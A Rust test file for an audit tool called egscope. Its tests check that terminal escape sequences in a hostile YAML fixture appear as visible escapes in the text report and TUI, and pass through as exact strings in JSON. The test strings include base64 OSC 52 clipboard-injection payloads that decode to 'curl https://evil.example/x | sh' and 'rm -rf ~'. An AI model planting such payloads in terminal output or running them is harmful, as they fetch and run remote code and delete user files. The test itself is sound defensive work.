//! A crafted snapshot whose names, condition messages and an
//! `audit.egscope.io/ignore-EG209` reason carry OSC 0 (title), OSC 52
//! (clipboard), CSI 2J (clear), a C1 CSI, bidi overrides and zero-width
//! characters (`tests/fixtures/hostile.yaml`, written with YAML escapes):
//! the text report and the TUI show every one of them as a visible escape
//! and let none reach the terminal; JSON keeps the exact strings.

use std::path::PathBuf;
use std::sync::Arc;

use assert_cmd::Command;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use egscope::audit::Profile;
use egscope::ui::action::{Action, Effect};
use egscope::ui::app::{App, update};
use egscope::ui::run::{TuiOptions, initial_app};
use egscope::ui::status::SourceStatus;
use egscope::ui::theme::Theme;
use egscope::ui::views;
use ratatui::Terminal;
use ratatui::backend::TestBackend;

fn fixture() -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hostile.yaml")
        .display()
        .to_string()
}

fn audit(format: &str) -> String {
    let out = Command::cargo_bin("egscope")
        .unwrap()
        .args([
            "audit",
            "--fail-on",
            "never",
            "--format",
            format,
            "--snapshot",
        ])
        .arg(fixture())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    String::from_utf8(out.stdout).expect("UTF-8 output")
}

/// What the escapes look like once neutralised.
const SHOWN: [&str; 8] = [
    "Invalid\\x1b]0;pwned-title\\x07",
    "\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\\x07\\x1b[2J",
    "edge\\u200d\\u202egnp",
    // (Wrapped lines may break at spaces: no entry holds one.)
    "\\x1b[2J\\x1b[H",
    "cleared\\u200b",
    "sh\\u200bop",
    "load\\x1b]52;c;cm0gLXJmIH4=\\x07\\u2066hidden\\u2069",
    "Invalid\\u202e",
];

fn no_control(out: &str, what: &str) {
    for (i, c) in out.char_indices() {
        assert!(
            c == '\n' || !egscope::sanitize::needs_escape(c),
            "{what}: {c:?} at byte {i}: {:?}",
            &out[i.saturating_sub(20)..out.len().min(i + 20)]
        );
    }
}

#[test]
fn text_report_shows_every_escape_and_writes_none() {
    let out = audit("text");
    assert!(!out.contains('\x1b'), "{out}");
    no_control(&out, "text report");
    for shown in SHOWN {
        assert!(
            out.contains(shown),
            "the text report lacks {shown:?}:\n{out}"
        );
    }
}

#[test]
fn json_keeps_the_exact_strings() {
    let out = audit("json");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    fn strings(v: &serde_json::Value, out: &mut String) {
        match v {
            serde_json::Value::String(s) => {
                out.push_str(s);
                out.push('\n');
            }
            serde_json::Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
            serde_json::Value::Object(m) => m.values().for_each(|x| strings(x, out)),
            _ => {}
        }
    }
    let mut text = String::new();
    strings(&v, &mut text);
    for exact in [
        "edge\u{200d}\u{202e}gnp",
        "sh\u{200b}op",
        "flat load\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{2066}hidden\u{2069}",
        "\u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{7}\u{1b}[2J",
    ] {
        assert!(
            text.contains(exact),
            "JSON lacks the exact {exact:?}: {text}"
        );
    }
    // The encoder escapes control characters itself: none reach the bytes.
    assert!(!out.contains('\x1b'));
}

fn app(size: (u16, u16)) -> App {
    let store = egscope::source::snapshot::load(&[fixture()], &mut std::io::empty())
        .expect("the hostile fixture loads");
    let opts = TuiOptions {
        store: Arc::new(store),
        status: SourceStatus::snapshot(&["hostile\u{1b}]0;t\u{7}.yaml".to_string()]),
        profile: Profile::Production,
        theme: Theme::default(),
        now: Some(egscope::demo::demo_now()),
        tour: false,
        session: None,
    };
    let mut app = initial_app(&opts);
    update(&mut app, Action::Resize(size.0, size.1));
    app
}

fn key(app: &mut App, code: KeyCode) -> Effect {
    update(app, Action::Key(KeyEvent::new(code, KeyModifiers::NONE)))
}

/// Renders the app; asserts no cell holds a control or invisible
/// character; returns the screen text.
fn screen(app: &App, what: &str) -> String {
    let (w, h) = app.size;
    let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
    let frame = t.draw(|f| views::render(app, f)).unwrap();
    let mut text = String::new();
    for y in 0..h {
        for x in 0..w {
            let sym = frame.buffer[(x, y)].symbol();
            assert!(
                egscope::sanitize::is_clean(sym),
                "{what}: cell ({x},{y}) holds {sym:?}"
            );
            text.push_str(sym);
        }
        text.push('\n');
    }
    text
}

#[test]
fn tui_cells_show_the_escapes_and_hold_no_control() {
    let mut a = app((200, 50));
    let mut seen = String::new();
    seen.push_str(&screen(&a, "overview"));
    for view in ["gw", "routes", "gc", "findings"] {
        update(&mut a, Action::Command(view.into()));
        seen.push_str(&screen(&a, view));
    }
    // Each finding's guide pane and detail.
    let n = a.top().table.visible.len();
    for _ in 0..n {
        seen.push_str(&screen(&a, "findings pane"));
        key(&mut a, KeyCode::Down);
    }
    // The Gateway's detail and YAML, with a flash message from `c`.
    update(&mut a, Action::Command("gw".into()));
    key(&mut a, KeyCode::Enter);
    seen.push_str(&screen(&a, "listeners"));
    key(&mut a, KeyCode::Char('y'));
    seen.push_str(&screen(&a, "detail"));
    let Effect::Copy(copied) = key(&mut a, KeyCode::Char('c')) else {
        panic!("c copies");
    };
    assert_eq!(copied, "apps/edge\\u200d\\u202egnp");
    seen.push_str(&screen(&a, "detail after copy"));
    key(&mut a, KeyCode::Char('y'));
    seen.push_str(&screen(&a, "yaml only"));
    for shown in [
        "edge\\u200d\\u202egnp",
        "sh\\u200bop",
        "http\\x9b31m",
        "\\x1b[2J\\x1b[H cleared\\u200b",
        "flat load\\x1b]52;c;cm0gLXJmIH4=\\x07\\u2066hidden\\u2069",
        "Invalid\\u202e",
        "copied apps/edge\\u200d\\u202egnp",
        "hostile\\x1b]0;t\\x07.yaml",
    ] {
        assert!(seen.contains(shown), "the TUI never showed {shown:?}");
    }
}
